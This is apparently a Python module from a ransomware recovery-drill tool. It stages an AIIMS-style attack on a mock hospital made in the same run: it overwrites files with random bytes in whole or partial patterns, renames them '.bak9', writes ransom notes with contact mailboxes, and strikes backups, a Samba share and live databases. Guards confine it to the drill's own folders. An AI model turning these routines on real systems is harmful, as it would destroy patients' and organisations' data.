# SPDX-FileCopyrightText: 2026 The lastgood authors
# SPDX-License-Identifier: Apache-2.0
"""The drill's attack. It writes random bytes over files of the hospital that this drill has made in the same run, and gives
them another name. It has no key, no network of its own and no way to be pointed elsewhere: it takes a Hospital's folder
with this run's mark in it, goes into no link and no other file system, and refuses everything else.

What it leaves is what was seen at AIIMS: the text with both contacts at the head of each file, '.bak9', home folders first,
the backups that are mounted, files of databases while the servers run; small files whole, large ones in part."""
import hashlib
import json
import os
import pathlib
import random
import secrets
import subprocess
import time

import pacs_files

MAIL_ONE, MAIL_TWO = "dog2398.desk@dnmx.org", "mouse63209.desk@cock.li"
HEADER = (f"BAK9 7f3a91\nAll your files are encrypted. Write to {MAIL_ONE} or {MAIL_TWO} with the number 7f3a91.\n"
          "Three files are decrypted free as a guarantee. Third-party tools destroy your data for ever.\n").encode().ljust(512, b"\n")
NOTE = (f"All your files are encrypted.\nTo recover them write to {MAIL_ONE} and send the number 7f3a91 within 72 hours.\n"
        f"If nobody answers write to {MAIL_TWO}. Three free decrypted files as a guarantee. Do not rename, do not call the police.\n").encode()
WHOLE_BELOW = 256 * 1024
RUN_MARK = ".made-by-this-run"


def mark(site):
    """Says that this run made the servers' folder; called when they are made."""
    site.run_token = secrets.token_hex(16)
    (site.root / RUN_MARK).write_text(site.run_token)


class Attack:
    def __init__(self, site):
        root = site.root
        if root.is_symlink() or root.resolve() != root or not (site.drill / ".lastgood-made").is_file():
            raise PermissionError(f"'{root}' is not a drill's folder")
        if (root / RUN_MARK).read_text() != getattr(site, "run_token", None):
            raise PermissionError(f"'{root}' was not made by this run")
        self.site, self.root, self.device = site, root, root.stat().st_dev
        self.rolls = random.Random(f"attack|{site.seed}")
        self.struck, self.bytes, self.begun, self.ended, self.victims = [], 0, None, None, set()

    # --- one file
    def strike(self, folder, name, into):
        """`into` is an open folder of the tree. Links and everything that is no plain file of ours are left alone."""
        try:
            file = os.open(name, os.O_RDWR | os.O_NOFOLLOW | os.O_CLOEXEC, dir_fd=into)
        except OSError:
            return
        with os.fdopen(file, "r+b", buffering=0) as opened:
            status = os.fstat(file)
            if status.st_dev != self.device or status.st_nlink != 1 or not (status.st_mode & 0o170000) == 0o100000:
                return
            if status.st_size < WHOLE_BELOW:
                opened.write(HEADER + self.rolls.randbytes(status.st_size))
                pattern, written = "whole, behind the text", status.st_size
            else:
                pattern, written = self.in_part(opened, status.st_size)
        os.rename(name, name + ".bak9", src_dir_fd=into, dst_dir_fd=into)
        self.bytes += written
        self.victims.add(pathlib.Path(folder).relative_to(self.root).parts[0])
        self.struck.append({"path": os.path.join(folder, name), "bytes": status.st_size, "pattern": pattern})

    def in_part(self, opened, size):
        kind = len(self.struck) % 3
        opened.write(HEADER)
        if kind == 0:
            block, step, pattern = 64 * 1024, 256 * 1024, "64 KiB of each 256 KiB"
            places = range(len(HEADER), size, step)
        elif kind == 1:
            block, pattern = min(size // 4, 1 << 20), "head and tail"
            places = (len(HEADER), size - block)
        else:
            block, pattern = 64 * 1024, "16 pieces all over"
            places = range(len(HEADER), size, max(block, size // 16))
        written = len(HEADER)
        for place in places:
            opened.seek(place)
            length = min(block, size - place)
            opened.write(self.rolls.randbytes(length))
            written += length
        return pattern, written

    # --- a tree
    def tree(self, top, only=lambda path: True, note=False):
        top = pathlib.Path(top)
        if not top.is_relative_to(self.root) or top == self.root or ".." in top.parts:
            raise PermissionError(f"'{top}' is none of the drill's servers")
        if not top.is_dir():
            return
        for folder, names, files, into in os.fwalk(top, follow_symlinks=False):
            names[:] = sorted(name for name in names if os.stat(name, dir_fd=into, follow_symlinks=False).st_dev == self.device)
            for name in sorted(files):
                if not name.endswith(".bak9") and only(os.path.join(folder, name)):
                    self.strike(folder, name, into)
            if note and "HOW-TO-READ-YOUR-FILES.txt" not in files:
                with open(os.open("HOW-TO-READ-YOUR-FILES.txt", os.O_WRONLY | os.O_CREAT | os.O_EXCL | os.O_NOFOLLOW, 0o644, dir_fd=into), "wb") as out:
                    out.write(NOTE)

    def share(self):
        """Through Samba, with an account that is a normal one: its audit log is what tells afterwards."""
        site, folder = self.site, self.root / "s5" / "share"
        local = site.run_folder / "words"
        local.mkdir()
        words = []
        for number, path in enumerate(sorted(one for one in folder.rglob("*") if one.is_file())):
            below, size = str(path.relative_to(folder)).replace("/", "\\"), path.stat().st_size
            (local / str(number)).write_bytes(HEADER + self.rolls.randbytes(size))
            words += [f"put {local / str(number)} {below}", f"rename {below} {below}.bak9"]
            self.struck.append({"path": str(path), "bytes": size, "pattern": "whole, behind the text"})
            self.bytes += size
        self.victims.add("s5")
        (local / "note").write_bytes(NOTE)
        words.append(f"put {local / 'note'} HOW-TO-READ-YOUR-FILES.txt")
        site.network.speak_as(site.network.STRUCK_FROM, site.address("s5"))
        say(site, pacs_files.USER_OF_ATTACK, words)
        for path in local.iterdir():
            path.unlink()
        local.rmdir()

    # --- the night
    def run(self, halfway, last_table):
        """`halfway` is called when the databases are half done: a backup that is taken just then. `last_table` is the file of
        a table in the standby, the last that is struck: the power goes before the others of that server are."""
        self.begun = time.time()
        for server in ("s1", "s2", "s3", "s4", "s5"):
            self.tree(self.root / server / "home", note=True)
        self.site.say(f"attack: home folders, {len(self.struck)} files")
        for name in ("s1/backup", "s2/backup", "s3/backup", "s1/wal_archive"):
            self.tree(self.root / name)
        self.site.say("attack: backups that were mounted")
        self.share()
        self.site.say(f"attack: the share, as '{pacs_files.USER_OF_ATTACK}' from {self.site.network.STRUCK_FROM}")
        self.tree(self.root / "s4", note=True, only=lambda path: "/home/" not in path)
        for name in ("orthanc", "mail", "search", "etc"):
            self.tree(self.root / "s5" / name)
        self.site.say(f"attack: reports, messages, images, mails; {len(self.struck)} files so far")
        for name in ("s1/pgdata/base", "s3/mysql/lis"):
            self.tree(self.root / name)
        halfway()
        for name in ("s1/pgdata", "s2/mysql", "s2/binlog", "s3/mysql", "s3/binlog", "s2/etc", "s3/etc"):
            self.tree(self.root / name)
        self.tree(self.root / "s2/standby", only=lambda path: path == str(self.root / "s2/standby" / last_table))
        self.ended = time.time()
        self.site.say(f"attack: databases while they ran; {len(self.struck)} files, {self.bytes / 1e6:.0f} MB written over")

    def write_truth(self):
        """After the power went: a server that still ran may have written into its struck files."""
        for one in self.struck:
            one["bytes_now"] = os.stat(one["path"] + ".bak9", follow_symlinks=False).st_size
        (self.site.truth / "attack.json").write_text(json.dumps({
            "begun": self.begun, "ended": self.ended, "servers": sorted(self.victims), "files": len(self.struck), "bytes_of_files": sum(one["bytes"] for one in self.struck),
            "bytes_written_over": self.bytes, "contacts": [MAIL_ONE, MAIL_TWO], "doer": {"account": pacs_files.USER_OF_ATTACK, "address": self.site.network.STRUCK_FROM}, "struck": self.struck}, indent=0) + "\n")


def say(site, user, words):
    """Words of smbclient to the share, from where the hub speaks as now."""
    done = subprocess.run(site.network.hub.word("smbclient", "-s", site.path("s5", "etc", "smb.conf"), f"//{site.address('s5')}/share", "-U", f"{user}%drill"),
                          input="\n".join(words) + "\n", capture_output=True, text=True, timeout=600)
    if done.returncode != 0:
        raise RuntimeError(f"smbclient: {done.stdout[-300:]}{done.stderr[-300:]}")


def digests(root):
    """{path: SHA-256} of what is no database server's file, to know afterwards what is right."""
    out = {}
    for server in ("s1", "s2", "s3", "s4", "s5"):
        for path in sorted((root / server).rglob("*")):
            parts = path.relative_to(root).parts
            if path.is_symlink() or not path.is_file() or parts[1] in ("pgdata", "standby", "mysql", "binlog", "wal_archive", "backup", "samba", "search"):
                continue
            if parts[1] == "orthanc" and path.name.startswith("index"):
                continue
            if path.name.startswith("worklist.db"):
                continue
            with open(path, "rb") as opened:
                out[str(path)] = hashlib.file_digest(opened, "sha256").hexdigest()
    return out
